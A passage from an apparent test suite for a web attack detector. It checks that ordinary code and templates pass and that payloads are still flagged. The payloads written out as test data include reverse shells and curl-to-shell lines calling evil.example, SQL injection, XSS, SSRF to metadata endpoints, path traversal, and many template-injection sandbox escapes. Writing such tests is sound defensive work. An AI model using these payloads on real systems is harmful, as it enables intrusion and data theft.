  for (const p of ['---\n# Hadolint config file\n\nfailure-threshold: warning', 'jobs:\n  dependabot:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Fetch metadata\n        uses: dependabot/fetch-metadata@v3']) {
    t.same(field(p), [], p)
    t.ok(q(p, 'snippet').includes('crlf'), `a YAML opening is no exemption in a query (review): ${p}`)
  }
  for (const p of ['---\r\nService-Worker-Allowed: /', '---\nClear-Site-Data: "*"', 'a:\r\n  b: c\r\nAlt-Svc: h2="evil.example:443"', 'x\nReferrer-Policy: unsafe-url', '---\r\nX-Evil: 1']) {
    t.ok(q(p, 'lang').includes('crlf'), `still read in a query: ${p}`)
    t.ok(field(p).includes('crlf'), `a response's header is read in a form's YAML too: ${p}`)
  }
  for (const p of ['x\r\nFoo-Bar: baz', 'x%0d%0aInjected-Header: 1', '---\r\nSet-Cookie: a=b', 'a:\r\n  Location: http://evil.example', 'x\r\n  Set-Cookie: a=b;', 'x\r\n  X-Forwarded-For: 1;', '---\nContent-Type: text/html']) t.ok(q(p, 'snippet').includes('crlf'), `still read: ${p}`)
  // documentation's placeholder directory under a file key; climbing out of it still counts
  t.same(json({ name: 'ping_pong', path: '/path/to/native-messaging/app/ping_pong.py', type: 'stdio' }), [], 'a manifest example')
  for (const p of ['/path/to/../../etc/passwd', '/path/to/%2e%2e/%2e%2e/etc/passwd', '/var/www/app.py']) t.ok(q(p, 'path').includes('path_traversal'), `still read: ${p}`)
  // Go: an address assigned or returned whole, a loop header without parentheses
  const goCode = (line: string) => `func (s *Server) handle(args map[string]any) (*int, error) {\n\tid, err := parse(args)\n\tif err != nil {\n\t\treturn nil, err\n\t}\n${line}\n\treturn nil, nil\n}`
  for (const line of ['\tcategoryID = &id', '\treturn &id, nil', '\tvars["last"] = &last', '\tfor start := 0; start < len(items); start += size {\n\t\tsend(items[start])\n\t}']) t.same(field(goCode(line)), [], line)
  for (const line of ['\tx = &id;whoami', '\tfor i := 0; i < $(id); i++ {', '\tfor a; b | sh; c {']) t.ok(field(goCode(line)).includes('rce'), `still read: ${line}`)
  for (const p of ['a = &id', 'x=1&id', 'return &id']) t.ok(q(p, 'snippet').includes('rce'), `still read outside a program: ${p}`)
  // an element's name quoted as a call's argument or an item
  for (const p of ["var div = document.createElement('div');", "el.querySelector('div')", '$("div")', "x = ['div', 'span']"]) t.same(q(p, 'snippet'), [], p)
  for (const p of ["'div'", "x' div 1 --", "f('div') union select 1,2--", "('div') or 1=1", "1,'div',1", "x,'div',x", "=('div')", "1=('div')", ":'div':", ',"div",', "a,'div';"]) t.ok(q(p, 'snippet').includes('sqli'), `still read (review): ${p}`)
  // a DOM sink handed a plain text literal is still read (the exemption withdrawn after the third review: a breakout that writes a phishing text)
  for (const p of ["\";document.body.innerHTML='Session expired. Sign in again at evil dot example';//", "x.innerHTML = '<img src=x onerror=alert(1)>';", 'x.innerHTML=location.hash']) t.ok(q(p, 'snippet').includes('xss'), `still read: ${p}`)
  // a program's pause: `sleep` as a method or awaited
  for (const p of ['Thread.sleep(1000);', 'await sleep(100);', 'time.sleep(5);']) t.same(q(p, 'where'), [], p)
  for (const p of ['sleep(5000);', "'; sleep(5000); var x='", 'this.a == 1 && sleep(1000);', "'; (function(){return this})().sleep(5000); var x='", "'; typeof await\nsleep(5000); var x='", '1; globalThis.sleep(5000);', "'; Function('return this')().sleep(5000); var x='"]) t.ok(q(p, 'where').includes('nosqli'), `still read (review): ${p}`)
  // a GraphQL document in a program's tagged template literal; a separator or a pipe inside it is still read
  const apollo = (literal: string) => `import { gql } from '@apollo/client'\nimport { useQuery } from '@apollo/client'\n\nconst GET_USER = ${literal}\n\nexport function User({ userId }) {\n  const { data } = useQuery(GET_USER, { variables: { userId } })\n  if (!data) return null\n  return data.user.name\n}\n`
  for (const literal of ['gql`\n  query GetUser($userId: ID!) {\n    user(id: $userId) {\n      id\n      name\n    }\n  }\n`', '/* GraphQL */ `\n  { id }\n`', 'gql`\n  fragment F on User {\n    ...Name\n    avatar(size: 64)\n  }\n`']) t.same(field(apollo(literal)), [], literal)
  for (const literal of ['gql`\n  id;whoami\n`', 'gql`\n  id | nc evil.example 4444\n`', 'gql`\n  id\n`', 'gql`\n  curl -s -o /tmp/.x http://evil.example/x\n  sh /tmp/.x\n`', 'gql`{\n  nc evil 4444\n}`', 'gql`{\n  wget evil\n}`', 'gql`nc -e /bin/sh 203.0.113.7 4444`']) t.ok(field(apollo(literal)).includes('rce'), `still read (review): ${literal}`)
})

t.test('thirty-second round: the twenty-second part\'s false positives, by kind', async (t) => {
  // a single-file component's options script, and a component's script cut from its file closing at the value's end
  const sfc = '<template>\n  <div class="page">\n    <app-shelf :series-id="seriesId" />\n  </div>\n</template>\n\n<script>\nexport default {\n  props: {\n    value: Boolean\n  },\n  data() {\n    return { processing: false }\n  },\n  methods: {\n    init() {\n      this.processing = false\n    }\n  }\n}\n</script>'
  t.same(field(sfc), [], 'a Vue component with its options')
  const cut = '      this.$axios\n        .$patch(`/api/me/item/${id}/bookmark`, bookmark)\n        .then(() => {\n          this.isEditing = false\n        })\n        .catch((error) => {\n          console.error(error)\n        })\n    }\n  }\n}\n</script>\n'
  t.same(field(cut), [], "a component's script cut from its file")
  for (const p of [sfc.replace('value: Boolean', 'value: Boolean, x: document.cookie'), '<script>\nexport default {\n  x: alert(1)\n}\n</script>', cut + '<script>alert(1)</script>', cut.replace('</script>', '</script><img src=x onerror=alert(1)>')]) t.ok(field(p).includes('xss'), `still read: ${p.slice(-60)}`)
  // a message's placeholder named `module`; a Go template's field as a path's directory (Devbox's plugins)
  t.same(q('In the module {{ module }} your webpack config is incorrect.', 'warning'), [], 'a placeholder named module')
  for (const p of ['{{module.__dict__}}', '{{ import os }}']) t.ok(q(p, 'warning').includes('ssti'), `still read: ${p}`)
  for (const p of ['{{ .Virtenv }}/bin/:$PATH', 'path:{{ .Virtenv }}/flake', '{{ .DevboxDir }}/valkey.conf']) t.same(q(p, 'env'), [], p)
  for (const p of ['{{ .Password }}', '{{.Env}}', '{{ .Secret }}']) t.ok(q(p, 'env').includes('ssti'), `still read: ${p}`)
  // PromQL's default for an empty result in a dashboard's query
  for (const p of ['sum(rate(otelcol_receiver_refused_spans_total[1m])) or vector(0)', 'count(up == 0) or on() vector(0)']) t.same(q(p, 'expr'), [], p)
  for (const p of ['1) or vector(0) union select password from users--', "') or vector(0) or ('1'='1", '1) or sleep(5)#']) t.ok(q(p, 'expr').includes('sqli'), `still read: ${p}`)
  // an Adaptive Card's template calling its expression language's functions, none of them PHP's
  for (const p of ["${formatDateTime(start.dateTime, 'HH:mm')} - ${formatDateTime(end.dateTime, 'hh:mm')}", '${if(isUrgent, "Now", "Later")}', '${concat(first, " ", last)}']) t.same(q(p, 'text'), [], p)
  for (const p of ['${system(id)}', '${@print(md5(1))}', '${sleep(5)}', '${formatDateTime(x)}${passthru(id)}', '${Formatdatetimex(1)}']) t.ok(q(p, 'text').includes('rce'), `still read: ${p}`)
  // a HAL resource's own links to the loopback host
  for (const doc of [{ _links: { self: { href: 'localhost' } } }, { orderId: '42', state: 'AWAITING_PAYMENT', _links: { self: { href: 'http://localhost/orders/999' } } }, { _embedded: { items: [{ _links: { self: { href: 'http://127.0.0.1:8080/items/1' } } }] }, _links: { next: [{ href: 'http://localhost/items/page/2' }] } }]) t.same(json(doc), [], JSON.stringify(doc))
  for (const doc of [{ _links: { self: { href: 'http://169.254.169.254/latest/meta-data/' } } }, { _links: { self: { href: 'http://10.0.0.1/x' } } }, { _links: { self: { href: 'http://localhost/x' } }, callback: { href: 'http://localhost/x' } }, { href: 'http://localhost/x', _links: {} }, { _links: { self: { href: 'http://localhost@evil.example/x' } } }, { _links: { self: { href: 'http://localhost/proxy?url=http://169.254.169.254/latest/meta-data/' } } }, { _links: { self: { href: 'http://127.0.0.1:2375/containers/json' } } }, { _links: { callback: { href: 'http://[::1]:9200/_cat/indices' } } }]) t.ok(json(doc).includes('ssrf'), `still read: ${JSON.stringify(doc)}`)
})

t.test('review of the thirty-second round: the exemptions an attacker could shape, read again', async (t) => {
  const dressing = '\nexport A=1\nexport B=2\nexport C=3\n'
  // a loop header only when it is Go's (a declaration, a comparison, a step), not any line opening on `for`
  for (const p of [`for x; curl -o /tmp/s http://evil.example/s; sh /tmp/s {${dressing}`, `for i := 0; id; i++ {${dressing}`, 'func f() {\n\tx := 1\n\tfor i := 0; cat < /etc/passwd; i++ {\n\t\tx++\n\t}\n}']) t.ok(field(p).length > 0, `still read: ${p.split('\n')[0]}`)
  t.ok(q(`for x; nc 10.0.0.1 4444 -e /bin/sh {${dressing}`, 'cmd').includes('rce'), 'a reverse shell in a loop header, in a query')
  // an address assigned or returned only in a program that shows it is Go's, Rust's or C's
  for (const p of [`${dressing}return &id\n`, `${dressing}x = &id\n`]) t.ok(field(p).includes('rce'), `still read: ${JSON.stringify(p)}`)
  // `.config` after a member is a CMS's object walk (Craft, Grav), not a Go template's field
  for (const p of ['{{craft.app.config.general.securityKey}}', '{{ craft.app.config.db.password }}', '{{ grav.config.system }}', '{{ g.config }}']) t.ok(q(p).includes('ssti'), `still read: ${p}`)
  // PHP's complex syntax through an allowed name with a call, a backtick or a variable in its arguments
  for (const p of ['${last(`id`)}', '${last(system(id))}', '${@last(system(id))}', '${string(system(id))}', '${concat($_GET[x])}']) t.ok(q(p, 'text').includes('rce'), `still read: ${p}`)
  // a Go template's field before a bare slash is a probe still
  for (const p of ['{{ .Password }}/', '{{- .AWSSecret -}}/']) t.ok(q(p, 'env').includes('ssti'), `still read: ${p}`)
})

t.test('thirty-second round: the twenty-third part\'s false positives, by kind', async (t) => {
  // a migration's script: under a comment of its own, or two statements each ended on its line
  for (const p of ['-- AlterTable\nALTER TABLE "Template" ADD COLUMN     "visibility" "DocumentVisibility" NOT NULL DEFAULT \'EVERYONE\';\n', 'DROP TABLE user_ban;\n\nDROP TABLE user_;', '-- AlterTable\nALTER TABLE "Document" ADD COLUMN     "completedAt" TIMESTAMP(3);\n\nUPDATE "Document" SET "completedAt" = "updatedAt" WHERE "status" = \'COMPLETED\';\n', 'DELETE FROM report_combined\nWHERE community_report_id IS NOT NULL;\n\nALTER TABLE report_combined\n    DROP CONSTRAINT report_combined_check;\n']) t.same(field(p), [], p)
  for (const p of ["DROP TABLE users;", "'; DROP TABLE users;--", '-- x\nDROP TABLE users; SELECT SLEEP(5);\n', 'DROP TABLE a;\nDROP TABLE b UNION SELECT password FROM users;\n', "-- AlterTable\nUPDATE users SET role = 'admin' WHERE 1=1 OR 1=1;\n", "1;\nDROP TABLE a;\nDROP TABLE b;\n"]) t.ok(field(p).includes('sqli'), `still read: ${JSON.stringify(p)}`)
  // an account's name then its options: not the English `create user home directory`
  for (const p of ['Auto create user home dir while adding new user', 'Create user home directory']) t.same(q(p, 'desc'), [], p)
  for (const p of ['create user hacker identified by "x"', "'; create user hacker identified by 'x'--", "';create user x;--", "'; CREATE USER evil WITH PASSWORD 'p';--", "1; create login x with password='p'--", "'; create user 'x'@'%' identified by 'p'--"]) t.ok(q(p, 'desc').includes('sqli'), `still read: ${p}`)
  // PromQL: `or` between its own functions, a selector's regular expression, Grafana's global variables
  for (const p of ['rate(mysql_perf_schema_events_waits_total{service_name=~"$service_name",event_name=~"$event"}[$interval]) or irate(mysql_perf_schema_events_waits_total{service_name=~"$service_name"}[5m])', '/graph/d/node-disk/disk-details?$__url_time_range&$__all_variables', '/d/x?var-node=${__field.labels.node_name}&$__url_time_range']) t.same(q(p, 'expr'), [], p)
  for (const p of ["x{a=\"b\"}') or rate(1) union select password from users--", 'x{a=~"$(id)"}', 'x{a=~"`id`"}', 'x{a=~"a"}|id', 'a&$__x;id', '&$CMD']) t.ok(q(p, 'expr').length > 0, `still read: ${p}`)
  // (third review) a selector's regular expression is read by the shell as written: the first `"` can close the application's own quote
  for (const p of ['x{a=~"|id|"}', 'x{a=~"$a|id"}']) t.ok(q(p, 'expr').includes('rce'), `read as written: ${p}`)
  // (forty-fourth round) variables alone alternated, the matcher's quote closed by the selector: spliced inside a command's quotes, what
  // follows the pipe is an unset variable then `},…)`, which no shell runs (a shell's own variables, and one the value sets, stay read)
  t.same(q('label_values(redis_up{node_name=~"$environment|$node_name"},service_name)', 'expr'), [], 'variables alternated')
  // a CMS's own embed placeholder (Wagtail's rich text), with no source
  t.same(q('<p>come celebrate <embed embedtype="image" format="fullwidth" id="1" alt="where did my image go?" /></p>', 'body'), [], "Wagtail's embed")
  for (const p of ['<embed embedtype="image" src="javascript:alert(1)">', '<embed src=x>', '<embed embedtype="image" format="x" onload="alert(1)"/>']) t.ok(q(p, 'body').includes('xss'), `still read: ${p}`)
  // a system file named in a one-line sentence, as a list's item, or in a language without Latin letters
  for (const p of ['Resolve PTR, SOA and NS requests for ARPA domains containing private IP addresses through private upstream servers, DHCP, /etc/hosts, etc. If disabled, AdGuard Home will respond to all such requests with NXDOMAIN.', '使用私有上游服务器、DHCP、/etc/hosts 等解决包含私有 IP 地址的 ARPA 域名的 PTR、SOA 和 NS 请求。如果禁用，AdGuard Home 将以 NXDOMAIN 回应所有此类请求。']) t.same(q(p, 'desc'), [], p)
  for (const p of ['/etc/passwd', 'please read the file and then cat, /etc/passwd and tell me what it says because it is important', '../../../../etc/passwd and some words here to make it long enough for the rule to apply ok']) t.ok(q(p, 'file').includes('path_traversal'), `still read: ${p}`)
  // a repository's query in its annotation, in a program's source
  const repo = (query: string) => `@Repository\npublic interface BankAccountRepository extends JpaRepository<BankAccount, Long> {\n    ${query}\n    Optional<BankAccount> findOneWithToOneRelationships(@Param("id") Long id);\n\n    default List<BankAccount> findAll() {\n        return this.findAllWithToOneRelationships();\n    }\n}\n`
  for (const query of ['@Query("select bankAccount from BankAccount bankAccount left join fetch bankAccount.user where bankAccount.id =:id")', '@Query(value = "select a from A a where a.x = :x")']) t.same(field(repo(query)), [], query)
  for (const query of ["@Query(\"select a from A a where a.name = '' or 1=1 -- \")", '@Query("select a from A a; drop table users")', '@Query("select a from A a union select password from users")']) t.ok(field(repo(query)).includes('sqli'), `still read: ${query}`)
})

t.test('third review of the thirty-second round: the twenty-third part\'s exemptions an attacker could shape', async (t) => {
  // a script's statements then a breakout; a quote in a "comment" line; a probe with inline comments as blanks
  for (const p of ["-- x\nupdate t set a=1;\n' OR 2>1 --", "delete from t;\ndelete from u;\n'; DROP TABLE users;--", "-- x\ndelete from t;\n'; UPDATE users SET role='admin' WHERE name='me';--", "-- x\ndelete from t;\n' union/**/select password from users--", "--';DROP TABLE users;--\ndelete from t;\ndelete from t;"]) t.ok(q(p).includes('sqli'), `still read: ${JSON.stringify(p)}`)
  // Grafana's variables by their names only, removed, and not where the value assigns one
  for (const p of ['&& c${__a}url evil.example/x|s${__a}h', 'x{a="b"}; i${__x}d', '__a=id;$__a|x']) t.ok(q(p).includes('rce'), `still read: ${p}`)
  // an account created after a separator, whatever follows its name
  for (const p of ["1; CREATE USER [evil] WITH PASSWORD='P@ssw0rd1'", "1; CREATE USER `evil` IDENTIFIED BY 'x'", "1; CREATE USER evil ENCRYPTED PASSWORD 'x'", '1;CREATE USER evil INHERIT', '1; CREATE USER evil BYPASSRLS']) t.ok(q(p, 'id').includes('sqli'), `still read: ${p}`)
  // a sentence under a key naming files; a system file glued to letters without Latin ones
  t.ok(q('report.pdf, notes, /etc/shadow, more files listed here for the weekly backup job to run ok', 'files').includes('path_traversal'), 'a list under files')
  t.ok(q(`${'漢字'.repeat(42)}/etc/passwd漢字`).includes('path_traversal'), 'glued to CJK letters')
  // PromQL's `or` with a quote or a comment in the value
  for (const p of ["x{a=\"b\"}') or changes()>=0--", "x{a=\"b\"}') or rate(users) is not null--", "m{a=\"b\"}') or resets(1) or 1--"]) t.ok(q(p).includes('sqli'), `still read: ${p}`)
  // an annotation's query that is an injection by itself
  t.ok(field('import java.util.List\npublic interface R {\n    @Query(" OR 1=1 OR ")\n    public List findAll()\n}\n').includes('sqli'), '@Query(" OR 1=1 OR ")')
})

t.test('the thirty-second round\'s readings are bounded: the longest script, the widest and deepest HAL document', async (t) => {
  // a migration-looking script of many lines: a breakout on its last line still counts (every line's quotes are looked at)
  const script = `-- x\n${'delete from t;\n'.repeat(2500)}' OR 2>1 --`
  t.ok(sqlInjection(script.toLowerCase()) || q(script, 'snippet').includes('sqli') || json({ snippet: script }).includes('sqli'), 'a breakout after 2,500 statements')
  const wideDetector = new AttackDetector({ maxInspectBytes: 1_000_000 })
  const body = (doc: unknown) => wideDetector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify(doc)) })
  t.ok(body({ snippet: script }).includes('sqli'), 'and with the whole script inspected')
  // HAL: a document wider than the walk's node budget (9,000 items) is read to its end without an exception, as one without links is
  const items = Array.from({ length: 9000 }, (_, i) => ({ n: `v${i}` }))
  t.same(body({ _links: { self: { href: 'http://localhost/orders/1' } }, items }), body({ items }), 'a document wider than the walk')
  // deeper than the walk: the link is not found, so not exempt; no exception either way
  let deep: unknown = { _links: { self: { href: 'http://localhost/orders/1' } } }
  for (let i = 0; i < 40; i++) deep = { _embedded: { item: deep } }
  t.doesNotThrow(() => body(deep), 'a document nested past the walk')
  t.same(body({ _links: { self: { href: 'http://localhost/orders/1' } } }), [], 'the same link in a small document stays exempt')
})

t.test("thirty-third round: a template's own page is judged tag by tag, for what its tags reach", async (t) => {
  const jinja = (line: string) => `{% extends "admin/base.html" %}\n\n{% block content %}\n<div class="jumbotron">\n\t<h1>Teams</h1>\n\t{% if q and field %}\n\t<h5>Searching for <strong>{{ field }}</strong> matching <strong>{{ q }}</strong></h5>\n\t{% endif %}\n\t${line}\n</div>\n{% endblock %}\n`
  const erb = (line: string) => `<nav>\n  <ul>\n    <% if can?(:show, Spree::StockLocation) %>\n      <%= settings_tab_item plural_resource_name(Spree::StockLocation), spree.admin_stock_locations_path %>\n    <% end %>\n    ${line}\n  </ul>\n</nav>\n`
  for (const line of ['<a href="{{ url_for(\'admin.pages_new\') }}">{{ \'config.form.faq.title\'|trans }}</a>', '{% for tag in entry.tags %}<li>{{ tag.label }}</li>{% endfor %}', '{{ form.verified(class="form-check-input", autocomplete="off") }}']) t.same(field(jinja(line)), [], line)
  t.same(field(erb('<li><%= link_to t(".orders"), spree.admin_orders_path %></li>')), [], 'an ERB page')
  t.same(field('{% block scripts %}\n{% endblock %}\n'), [], 'two block tags on their lines')
  for (const line of ["{{ cycler.__init__.__globals__.os.popen('id').read() }}", '{{ config }}', '{{ 7*7 }}', "{{ ['id']|filter('system') }}", "{{ request|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "{% include '../../../../etc/passwd' %}", '${T(java.lang.Runtime).getRuntime().exec("id")}']) t.ok(field(jinja(line)).includes('ssti'), `still read: ${line}`)
  for (const line of ["<%= system('id') %>", "<%= File.read('/etc/passwd') %>", '<%= 7*7 %>']) t.ok(field(erb(line)).includes('ssti'), `still read: ${line}`)
  // one tag alone, or two families mixed, is judged as before: a probe
  for (const p of ['{% include "x.html" %}', '<b>{{ a }}</b>\n<%= b %>', '{{ render_extra_fields(form.extra) }}']) t.ok(q(p).includes('ssti'), `still a probe: ${p}`)
})

t.test("thirty-third round: a page's own markup — icons, style sheets, no-op links, its asset scripts and data blocks", async (t) => {
  const icon = '<svg class="icon" viewBox="0 0 24 24" fill="none" xmlns="http://www.w3.org/2000/svg">\n    <path d="M12 2.982C14.937 2.982 15.285 2.993 16.445 3.046"/>\n</svg>'
  for (const p of [
    icon, `<p>\n${icon}\n<a href="/x">y</a></p>`,
    "<style lang=\"scss\">\n@import '@/styles/style-helpers.scss';\n\n.edit-app-config .app-config-intro {\n  padding: 0.5rem;\n}\n</style>\n",
    "export default {\n  name: 'Footer',\n  props: {\n    text: { type: String, default: '' },\n  },\n  computed: {\n    visible() {\n      return shouldBeVisible(this.name);\n    },\n  },\n};\n</script>\n\n<style scoped lang=\"scss\">\n@import '@/styles/media-queries.scss';\n.footer { padding: 0.5rem; }\n",
    '<a href="javascript:;" data-sumo-modal="report-abuse">Report Abuse</a>', "<a href='javascript:void(0);' class=\"btn\">x</a>",
    '<link rel="stylesheet" href="/component-price.css" media="print" onload="this.media=\'all\'">',
    '<div>\n  <script src="{{ \'global.js\' | asset_url }}" defer="defer"></script>\n  {% if x %}<p>{{ y }}</p>{% endif %}\n</div>',
    '<script type="application/ld+json">\n  {{ article | structured_data }}\n</script>',
  ]) t.same(field(p), [], p)
  for (const p of [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', '<svg viewBox="0 0 1 1"><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>',
    '<svg viewBox="0 0 1 1"><a xlink:href="javascript:alert(1)"><rect/></a></svg>', '<svg viewBox="0 0 1 1"><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg viewBox="0 0 24 24"><path d="M1"/></svg><svg viewBox="0 0 1 1" onload=alert(1)>', '<svg viewBox="0 0 24 24"><path d="M1"/><script>alert(1)</script></svg>',
    '<div id="88"><svg xmlns="http://www.w3.org/2000/svg">', '<svg>',
    "<style>@import 'http://evil.example/x.css';</style>", '<style>@import url(//evil.example/x.css);</style>', "<style>*[{}@import'%(css)s?]</style>X", '<style>@import "x";</style>',
    '<a href="javascript:;alert(1)">x</a>', '<a href="javascript:void(0)" onclick="alert(1)">x</a>', '<iframe src="javascript:;"></iframe>',
    '<link rel="stylesheet" href="/a.css" media="print" onload="this.media=\'all\';alert(1)">',
    '<div>\n  <script src="{{ \'global.js\' | asset_url }}" onload="alert(1)"></script>\n  {% if x %}<p>{{ y }}</p>{% endif %}\n</div>', '<div>\n<script src="{{ x }}"></script><script>alert(1)</script>\n{{ y }}</div>',
    '<script type="application/json">{"a":1}</script><script>alert(1)</script>', '<script type="application/json" src="//evil.example/x.js"></script>',
    "};\n</script><img src=x onerror=alert(1)>\n", "export default {\n  name: 'x',\n  data() { return { a: 1 } },\n  methods: { f() { return 1 } },\n};\n</script>\n<style>@import 'http://evil.example/a.css';</style>",
  ]) t.ok(field(p).includes('xss'), `still read: ${p}`)
})

t.test('review of the thirty-third round: payloads dressed as a template\'s page are still template injection', async (t) => {
  const jinja = (p: string) => `{% extends "base.html" %}\n{% block content %}\n<div>\n  ${p}\n</div>\n{% endblock %}`
  const erb = (p: string) => `<div class="x">\n<%= title %>\n${p}\n</div>\n<% end %>`
  const jinjaEvasions = [
  "{{ lipsum['x_x_globals_x_x'|replace('x','')].os['nepop'|reverse]('id').read() }}",
  "{% set u='x_'|replace('x','') %}{% set g=u*2~'glo'~'bals'~u*2 %}{{ lipsum[g].os.popen('id').read() }}",
  "{% set g='%s%sglobals%s%s'|format(*'____') %}{{ lipsum[g] }}",
  "{{ [lipsum]|map(attribute=g)|first }}",
  "{{ '}}' ~ lipsum.__globals__['os'].popen('id').read() }}",
  "{% set x = '%}' ~ lipsum.__globals__ %}",
  "{{ title }}\n<p>{{ <#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(RequestParameters.c)} }}</p>",
  "{% set f = 'system' %}{{ ['id']|filter(f) }}",
  "{{ ['id']|filter('sys'~'tem') }}",
  "{{ ['id']|filter('\\\\system') }}",
  "{% set c='constru'+'ctor' %}{% set s='return globaX.procesX.mainModulX.requirX(\"child_procesX\").execSync(\"id\")'|replace(\"X\",\"e\") %}{{ range[c](s)() }}",
  "{% for k,v in config|dictsort %}{{k}}={{v}}{% endfor %}",
  "{{ (config) }}", "{{ config ~ '' }}", "{{ config.get('SECRET'~'_KEY') }}", "{% with c = config %}{{ c }}{% endwith %}",
  "{# {{ #}{{ config }}", "{{ 7*7 if 1 }}",
  "{{ handler.settings['cookie_secret'] }}",
  "{{ messages.storages.0.signer.key }}", "{{ request.META }}", "{% with u=request.user %}{{ u.password }}{% endwith %}", "{{ settings.DATABASES.default.PASSWORD }}",
  "{{ app.request.server.get('APP_SECRET') }}", "{{ attribute(app,'request').server.all|json_encode }}",
  "{{ lipsum[request.mimetype_params.a][request.mimetype_params.b] }}",
  "{% set a = request.args.a %}{{ [(lipsum)]|map(attribute=a)|first }}",
  "{{ source('/'~'etc/passwd') }}",
  "{{ (eval)(bytes.fromhex('5f5f696d').decode()) }}", "{% set x=(exec)('import os') %}",
  "{{ lipsum['\\N{LOW LINE}\\N{LOW LINE}globals\\N{LOW LINE}\\N{LOW LINE}'] }}",
  "{{ range['constructor']('return process')() }}",
]
  const erbEvasions = [
  "<%= IO::popen('id').read %>", "<%= Kernel::system('id') %>", "<%= Process::spawn('id') %>", "<%= Open3::capture2('id') %>",
  '<%= 1.send("sys"+"tem","id") %>', '<%= 1.send(params[:m], params[:c]) %>', '<%= 1.method("sys"+"tem").call("id") %>',
  '<%= render inline: params[:t] %>', '<%= ERB.new(params[:t]).result %>', "<%= render file: '/etc/passwd' %>", "<%= Pathname('/etc/passwd').read %>", "<%= URI.open('|id').read %>",
  "<%= process['mainModule']['req'+'uire']('child_'+'process')['execSync']('id') %>", "<%- include('/'+'app/config/secrets.json') %>",
  '<%= new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("c")) %>', '<%= new java.net.URL("file:///etc/passwd").openStream() %>',
  "<% x = getattr(self.module.cache.util.os,'po'+'pen')('id').read() %>",
]
  for (const p of jinjaEvasions) t.ok(field(jinja(p)).includes('ssti'), `still read: ${p}`)
  for (const p of erbEvasions) t.ok(field(erb(p)).includes('ssti'), `still read: ${p}`)
  // a page's own dynamic keys, the application's configuration helper and secrets' names in translation keys stay its own
  for (const p of ['{{ stats[engine_name].rate95 }}{{ form.errors.messages[field] }}', "{{ config('app.upload_limit') }}{{ trans('settings.user_api_token') }}", '{{ show_source_code(_self) }}', '{{ form_widget(form._token) }}']) t.same(field(jinja(p)), [], p)
})

t.test("thirty-third round: a program's own MongoDB queries and updates are no operator injection", async (t) => {
  for (const p of ['    return await Boards.updateAsync(this._id, {\n      $set: {\n        [`members.${memberIndex}.isAdmin`]: isAdmin,\n      },\n    });\n  },\n', "    if (deleted) {\n      const at = new Date();\n      const set = { deletedAt: at, deleteBatchId: batchId };\n      if (this.userId) set.deletedBy = this.userId;\n      await Lists.updateAsync(list._id, { $set: set });\n      // Re-mark the list's currently-live cards under the canonical batch.\n      await Cards.updateAsync(\n        { listId: list._id, boardId: list.boardId, deletedAt: null },\n        { $set: set },\n        { multi: true },\n      );\n    } else {\n      // Restore: $unset all three fields (setting a Date to null trips schema).\n      const unset = { $unset: { deletedAt: '', deletedBy: '', deleteBatchId: '' } };\n      await Lists.updateAsync(list._id, unset);\n      await Cards.updateAsync({ deleteBatchId: batchId }, unset, { multi: true });\n    }\n  },"]) t.same(field(p), [], p)
  // the operators that run JavaScript in the database, and a document's operators, are still read
  for (const p of ['const q = {\n  $where: "sleep(5000)",\n};\nfunction f() {\n  return db.x.find(q);\n}\n', '{"$ne": null}', '{"username": {"$ne": ""}, "password": {"$ne": ""}}']) t.ok(field(p).includes('nosqli'), `still read: ${p}`)
})

t.test('second review of the thirty-third round: block texts, named arguments, strict script and data tags, icons read to the next one', async (t) => {
  const jinja = (p: string) => `{% extends "base.html" %}\n{% block content %}\n<div class="x">\n${p}\n</div>\n{% endblock %}\n`
  const erb = (p: string) => `<div class="x">\n<%= title %>\n${p}\n</div>\n<% end %>`
  for (const p of [
    "{% macro m() %}{% endmacro %}\n{% set i %}__init__{% endset %}{% set gl %}__globals__{% endset %}\n<p>{{ m[i][gl]['os'] }}</p>",
    "{% macro m() %}{% endmacro %}\n{% set u %}_{% endset %}{% set i = u*2 ~ 'init' ~ u*2 %}\n<p>{{ m[i] }}</p>",
    "{{ ['id']|filter(arrow='system') }}", "{{ [0,0]|reduce(arrow='system', initial='id') }}", "{% set f %}system{% endset %}{{ ['id']|filter(arrow=f) }}",
  ]) t.ok(field(jinja(p)).includes('ssti'), `still read: ${p}`)
  for (const p of ["<%= Gem::Util.popen('id') %>", "<%= FileUtils.rm_rf('/') %>", '<%= ENV.to_h %>', "<%= ENV['SECRET_KEY_BASE'] %>", '<%= Rails.application.secret_key_base %>', '<%= JSON.stringify(this.process.env) %>', "<%= Function(atob('aWQ='))() %>"]) t.ok(field(erb(p)).includes('ssti'), `still read: ${p}`)
  for (const p of [
    '<script data-type="application/json">alert(document.cookie)</script>', '<script type="module" type="application/json">alert(1)</script>', '<script title=" type=application/json">alert(1)</script>',
    jinja('<script src=//evil.example/x.js data-x src="{{ \'a.js\' }}"></script>'), jinja('<script data-src="{{ x }}" src="//evil.example/x.js"></script>'),
    jinja(`<script data-a="${'a'.repeat(180)}" src="{{ 'a.js' }}" data-b="${'b'.repeat(90)}" onerror="alert(document.cookie)"></script>`), jinja('<script src="{{ \'//evil.example/x.js\' }}"></script>'),
    '<svg viewBox="0 0 24 24"><path d="</svg>"/><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">Click</text></a></svg>',
    '<svg viewBox="0 0 24 24"><path d="M1"/><!--</svg>--><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    '<svg viewBox="0 0 24 24"><path d="M1"/><x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script></svg>',
    `<style>@import '/x.css';${' '.repeat(400)}@import '//evil.example/x.css';</style>`,
  ]) t.ok(field(p).includes('xss'), `still read: ${p.slice(0, 120)}`)
})

t.test("thirty-third round: the twenty-fifth part's false positives — Rust's generics and Yew's handlers, a component's event bindings", async (t) => {
  for (const p of [
    'impl<Handler: BackendHandler> AttributeValue<Handler> {\n    fn from_schema(a: DomainAttribute, schema: &DomainAttributeList) -> Option<Self> {\n        schema\n            .get_attribute_schema(&a.name)\n            .map(|s| AttributeValue::<Handler>::from_value(a, s.clone()))\n    }',
